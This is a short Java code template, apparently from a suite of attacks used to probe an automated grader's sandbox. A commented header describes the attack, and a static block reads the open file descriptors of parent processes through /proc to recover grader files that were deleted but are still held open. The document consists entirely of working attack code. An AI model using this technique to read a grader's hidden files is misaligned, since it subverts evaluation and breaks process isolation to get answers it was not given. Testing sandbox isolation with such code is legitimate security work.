// ---
// tries: Reads the files that its parent and the first process have open.
// place: before
// gain: files of the grader that are deleted already, but still open
// helps: undumpable
// ---
  static {
    for (long pid : Attack.parents()) {
      var files = new java.io.File("/proc/" + pid + "/fd").listFiles();
      for (var file : files == null ? new java.io.File[0] : files) {
        try {
          String target = java.nio.file.Files.readSymbolicLink(file.toPath()).toString();
          if (!target.startsWith("/") || target.matches("/(dev|proc|shared|usr|opt|etc|sys)/.*")) continue;
          String text = Attack.excerpt(file);
          if (!text.isBlank()) Attack.read(target, text);
        } catch (java.io.IOException closed) {
          continue;
        }
      }
    }
  }
@BODY@
